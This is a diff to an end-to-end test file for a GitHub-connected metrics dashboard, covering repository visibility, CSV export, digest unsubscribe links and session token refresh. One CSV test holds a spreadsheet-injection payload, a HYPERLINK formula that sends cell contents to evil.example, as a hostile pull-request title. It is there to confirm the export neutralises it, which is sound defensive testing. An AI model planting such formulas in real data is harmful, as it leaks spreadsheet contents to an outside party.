@@ -1,6 +1,7 @@
+import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
 import type { Page } from 'playwright-core';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { finishedWeek, isoWeekOf, shiftWeek } from '#shared/metrics/time-zone.ts';
+import { finishedWeek, shiftWeek, weekIn } from '#shared/metrics/time-zone.ts';
 import { keys } from '#shared/store/keys.ts';
 import { updateSettings } from '#shared/store/settings.ts';
 import { readWeeklyMetrics } from '#shared/store/weekly-metrics.ts';
@@ -47,8 +48,13 @@ beforeAll(async () => {
   );
 }, 120_000);
 
-/** The weeks of the installation page's trends whose team figures cover a repository outside `seen`. */
-async function weeksCovering(outside: (repositoryId: number) => boolean): Promise<Set<string>> {
+/**
+ * The installation page's twelve trend weeks, each with whether its stored
+ * team figures cover a repository `outside` the person's (absent: no figures).
+ */
+async function weeksCovering(
+  outside: (repositoryId: number) => boolean,
+): Promise<Map<string, boolean>> {
   const last = finishedWeek(new Date(), timeZone);
   const rows = await readWeeklyMetrics(
     github.harness.table,
@@ -56,10 +62,10 @@ async function weeksCovering(outside: (repositoryId: number) => boolean): Promis
     shiftWeek(last, -11),
     last,
   );
-  return new Set(
+  return new Map(
     rows
-      .filter((row) => row.scope === 'team' && (row.repositoryIds ?? []).some(outside))
-      .map((row) => row.week),
+      .filter((row) => row.scope === 'team')
+      .map((row) => [row.week, (row.repositoryIds ?? []).some(outside)]),
   );
 }
 
@@ -95,8 +101,8 @@ describe('who sees what on the dashboard', () => {
     expect((await page.goto(url(`/repositories/${site?.id}`)))?.status()).toBe(200);
 
     // The week's team figures are shown only where they cover `site` alone (from the stored rows).
-    const withheld = await weeksCovering((id) => id !== site?.id);
-    expect(withheld.size).toBeGreaterThan(0);
+    const covering = await weeksCovering((id) => id !== site?.id);
+    expect([...covering.values()]).toContain(true);
     await page.goto(url(''));
     const bars = await page
       .getByRole('img', { name: 'Pull requests merged per week' })
@@ -104,13 +110,12 @@ describe('who sees what on the dashboard', () => {
       .allTextContents();
     expect(bars).toHaveLength(12);
     for (const bar of bars) {
-      const week = `${new Date().getUTCFullYear() - (bar.startsWith('20') ? 0 : 0)}`;
-      const [name = '', value = ''] = bar.split(' merged: ');
-      expect(week).toBeTruthy();
-      if (withheld.has(name)) expect(value, name).toBe('—');
+      const [week = '', value = ''] = bar.split(' merged: ');
+      const shown = covering.get(week) === false;
+      expect(value, week).toEqual(shown ? expect.stringMatching(/^\d+$/) : '—');
     }
     const last = finishedWeek(new Date(), timeZone);
-    if (withheld.has(last)) {
+    if (covering.get(last)) {
       expect(await page.getByRole('region', { name: /^Headlines of/ }).count()).toBe(0);
       expect(await page.getByRole('heading', { name: 'Delivery' }).count()).toBe(0);
       expect(await page.getByRole('heading', { name: 'AI adoption' }).count()).toBe(0);
@@ -144,9 +149,9 @@ describe('who sees what on the dashboard', () => {
 
   it('hands a title built to run in a spreadsheet over as text', async () => {
     const hostile = '=HYPERLINK("https://evil.example/steal?c="&A1,"Open")';
-    const opened = await github.sim.activity.open('seers/site', { title: hostile });
-    await github.sim.activity.merge('seers/site', opened.number);
-    const week = isoWeekOf(new Date(), timeZone);
+    await github.sim.activity.open('seers/site', { title: hostile });
+    await github.sim.activity.merge('seers/site', repository('site').pullRequestCount);
+    const week = weekIn(new Date(), timeZone);
     const page = await signedIn(github.sim.admin.login);
     const csv = async () =>
       (await page.request.get(url(`/pull-requests.csv?from=${week}&to=${week}`))).text();
@@ -166,10 +171,12 @@ describe('who sees what on the dashboard', () => {
     expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toContain('gone@');
 
     // Meanwhile the recipient follows their email's unsubscribe link.
-    const stored = await github.harness.get(keys.installation(installationId));
-    const { unsubscribeToken } = (
-      stored?.recipients as { email: string; unsubscribeToken: string }[]
-    ).find((recipient) => recipient.email === 'gone@seers.example') as { unsubscribeToken: string };
+    const stored = (await github.harness.get(keys.installation(installationId))) as {
+      recipients: { email: string; unsubscribeToken: string }[];
+    };
+    const { unsubscribeToken } = stored.recipients.find(
+      (recipient) => recipient.email === 'gone@seers.example',
+    ) as { unsubscribeToken: string };
     const unsubscribed = await fetch(
       `${github.harness.stack.url}/unsubscribe/${installationId}/${unsubscribeToken}`,
       { method: 'POST' },
@@ -182,12 +189,12 @@ describe('who sees what on the dashboard', () => {
     expect(await admin.getByRole('alert').textContent()).toContain(
       'The settings changed since this page was loaded',
     );
-    const recipients = async () =>
-      (
-        (await github.harness.get(keys.installation(installationId)))?.recipients as {
-          email: string;
-        }[]
-      ).map((recipient) => recipient.email);
+    const recipients = async () => {
+      const now = (await github.harness.get(keys.installation(installationId))) as {
+        recipients: { email: string }[];
+      };
+      return now.recipients.map((recipient) => recipient.email);
+    };
     expect(await recipients()).toEqual(['lead@seers.example']);
     // The form now shows the settings as they are; saving it keeps them so.
     expect(await admin.getByLabel('Weekly digest recipients').inputValue()).toBe(
@@ -206,6 +213,20 @@ describe('sessions', () => {
       (item) => String(item.pk).startsWith('SESSION#') && item.login === login,
     );
 
+  /** What a minute does to a session's remembered lists: GitHub is asked again (with the token) on the next page. */
+  const listsAgeAMinute = async (login: string) => {
+    for (const item of await sessions(login))
+      await github.harness.db.send(
+        new UpdateCommand({
+          TableName: github.harness.table.tableName,
+          Key: keys.session(String(item.sessionId)),
+          UpdateExpression: 'REMOVE visible SET #access = :none',
+          ExpressionAttributeNames: { '#access': 'access' },
+          ExpressionAttributeValues: { ':none': {} },
+        }),
+      );
+  };
+
   it('keep the GitHub tokens sealed: no session item holds one in plain text', async () => {
     const page = await signedIn(github.sim.admin.login);
     const items = await sessions(github.sim.admin.login);
@@ -219,20 +240,23 @@ describe('sessions', () => {
 
   it('end when the person signs out, whatever the form carries, and when they sign in again', async () => {
     const login = github.sim.restricted.user.login;
+    const ids = async () => new Set((await sessions(login)).map((item) => item.sessionId));
+    const before = await ids();
     const page = await signedIn(login);
-    const [first] = await sessions(login);
+    const [first] = [...(await ids())].filter((id) => !before.has(id));
+    expect(first).toBeDefined();
     // Signing in again in the same browser ends the session it had.
-    await page.goto(github.harness.stack.url);
     await page.goto(`${github.harness.stack.url}/login`);
     await page.getByRole('button', { name: login, exact: true }).click();
     await page.waitForURL(`${github.harness.stack.url}/`);
-    const after = await sessions(login);
-    expect(after).toHaveLength(1);
-    expect(after[0]?.sessionId).not.toBe(first?.sessionId);
+    const after = await ids();
+    expect(after.has(first)).toBe(false);
+    const [second] = [...after].filter((id) => !before.has(id));
+    expect(second).toBeDefined();
 
     // A sign-out without its CSRF token still ends the session.
     await page.request.post(`${github.harness.stack.url}/logout`, { form: {} });
-    expect(await sessions(login)).toHaveLength(0);
+    expect((await ids()).has(second)).toBe(false);
     await page.goto(url(''));
     expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
     await page.context().close();
@@ -241,17 +265,20 @@ describe('sessions', () => {
   // Last: they move the simulator's clock.
   it("outlive GitHub's 8-hour token by refreshing it, and end when the refresh token has expired too", async () => {
     const login = github.sim.admin.login;
+    const earlier = new Set((await sessions(login)).map((item) => item.sessionId));
     const page = await signedIn(login);
-    const [before] = await sessions(login);
+    const ours = async () => (await sessions(login)).find((item) => !earlier.has(item.sessionId));
+    const before = await ours();
     github.sim.advanceClock(9 * 3_600_000);
+    await listsAgeAMinute(login);
     const response = await page.goto(url(''));
     expect(response?.status()).toBe(200);
     expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('seers');
-    const [after] = await sessions(login);
-    expect(after?.sealedTokens).not.toBe(before?.sealedTokens);
+    expect((await ours())?.sealedTokens).not.toBe(before?.sealedTokens);
 
     // GitHub's refresh tokens last six months: past that, the person signs in again.
     github.sim.advanceClock(200 * 86_400_000);
+    await listsAgeAMinute(login);
     await page.goto(url(''));
     expect(page.url()).toMatch(new RegExp(`^${github.sim.url}/login/oauth/authorize`));
     expect(await page.content()).not.toContain('seers/core');
